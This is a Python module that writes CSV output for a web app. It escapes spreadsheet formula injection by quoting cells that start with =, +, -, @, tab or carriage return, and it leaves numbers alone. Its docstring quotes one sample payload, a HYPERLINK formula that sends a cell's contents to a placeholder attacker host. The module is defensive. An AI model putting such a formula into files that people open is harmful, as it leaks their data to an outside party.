"""Writing CSV files: the one way every CSV file we answer with is written (predictions for an
uploaded batch, a data set with its clusters).

Formula injection ("CSV injection", OWASP): a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some also one that starts with a tab or a carriage
return; a data set or an upload can carry ``=HYPERLINK("https://evil.example/?"&A1,"Open")``
into a file that someone then opens in Excel. As OWASP recommends, such a text cell is written
with a single quote in front, which spreadsheets read as "this is text" and do not show; the
header's names too. Numbers are not formulas and are written as they are: a cell that reads as
a number with the file's decimal mark (``-1.5``, ``+3``, ``-2e-3``; in a decimal-comma file
``-1,5`` and ``-1.234,50``), and a cell of dashes only (``-``, a common "no value"). Numeric
columns (floats, integers) are never touched.

Large answers are written a chunk of rows at a time (:func:`write_rows` without the header
after the first chunk) and encoded with :func:`encoder`, so a byte-order mark is written once.
"""

from __future__ import annotations

import codecs
import csv
import re
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
import pandas as pd

from webapp.services.csv_parsing import WHITESPACE, number_pattern

# Characters a spreadsheet reads as the start of a formula (OWASP's list).
_FORMULA_START = re.compile(r"[=+\-@\t\r]")
_DASHES = re.compile(r"-+")


@dataclass(frozen=True)
class Dialect:
    """How a CSV file is written; ``delimiter`` may be csv_parsing's ``WHITESPACE``."""

    delimiter: str = ","
    decimal: str = "."
    quotechar: str = '"'
    line_end: str = "\n"
    encoding: str = "utf-8"


PLAIN = Dialect()


def escape_formulas(values: pd.Series, decimal: str = ".") -> pd.Series:
    """``values`` with every text cell a spreadsheet would run as a formula written as text
    (a leading ``'``); numbers, in ``decimal``'s notation, stay as they are."""
    if not (values.dtype == object or isinstance(values.dtype, pd.StringDtype)):
        return values
    text = values.astype(object)
    is_text = np.fromiter((isinstance(v, str) for v in text), dtype=bool, count=len(text))
    if not is_text.any():
        return values
    strings = text[is_text]
    risky = strings[strings.str.match(_FORMULA_START).to_numpy(dtype=bool)]
    if risky.empty:
        return values
    inert = risky.str.fullmatch(number_pattern(decimal)) | risky.str.fullmatch(_DASHES)
    escaped = risky[~inert.to_numpy(dtype=bool)]
    if escaped.empty:
        return values
    out = text.copy()
    out[escaped.index] = "'" + escaped
    return out


def write_rows(frame: pd.DataFrame, dialect: Dialect = PLAIN, *, header: bool = True) -> str:
    """``frame`` as CSV text in ``dialect`` (with the header unless ``header=False``: the
    chunks after the first of a long answer), formulas escaped."""
    decimal = dialect.decimal
    out = pd.DataFrame(
        {i: escape_formulas(frame.iloc[:, i], decimal) for i in range(frame.shape[1])},
        index=frame.index,
    )
    out.columns = escape_formulas(pd.Series(frame.columns, dtype=object), decimal).tolist()
    blanks = dialect.delimiter == WHITESPACE
    if blanks:
        # Blanks separate values: an empty one must be written, or the row shifts left.
        out = out.replace("", np.nan)
    return out.to_csv(
        index=False,
        header=header,
        sep=" " if blanks else dialect.delimiter,
        decimal=decimal,
        quotechar=dialect.quotechar,
        quoting=csv.QUOTE_MINIMAL,
        lineterminator=dialect.line_end,
        na_rep="NA" if blanks else "",
    )


def encoder(encoding: str, errors: str = "strict") -> Callable[[str], bytes]:
    """A function encoding successive pieces of one text: a byte-order mark (utf-8-sig,
    utf-16) comes once, at the start, not once per chunk."""
    return codecs.getincrementalencoder(encoding)(errors).encode
